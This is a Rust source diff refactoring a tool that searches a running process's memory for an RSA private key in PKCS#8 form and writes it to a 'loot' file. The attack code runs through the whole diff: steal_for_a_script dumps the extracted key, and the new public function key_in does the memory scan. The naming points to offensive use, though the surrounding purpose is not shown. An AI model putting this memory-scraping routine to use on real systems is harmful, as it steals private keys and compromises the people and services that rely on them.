@@ -42,11 +42,7 @@ fn scan_for_a_script() {
 fn steal_for_a_script() {
     let Some(process) = process() else { return };
     let loot = std::env::var_os(LOOT).expect("a place for the key");
-    let memory = Memory::of(process);
-    let key = memory
-        .regions()
-        .find_map(|region| key_within(&memory.read(region.start, region.end - region.start)))
-        .expect("a private key in the memory");
+    let key = key_in(process).expect("a private key in the memory");
     File::create(loot)
         .and_then(|file| file.write_all_at(&key, 0))
         .expect("written");
@@ -100,7 +96,14 @@ fn needles(folder: &Path) -> Vec<Needle> {
     needles
 }
 
-/// The first whole PKCS#8 document with an RSA key.
+/// The first private key in the memory of a process, as PKCS#8.
+pub fn key_in(process: u32) -> Option<Vec<u8>> {
+    let memory = Memory::of(process);
+    memory
+        .regions()
+        .find_map(|region| key_within(&memory.read(region.start, region.end - region.start)))
+}
+
 fn key_within(part: &[u8]) -> Option<Vec<u8>> {
     /// Version 0, the algorithm rsaEncryption, and the start of the octet string with the key.
     const INSIDE: &[u8] =
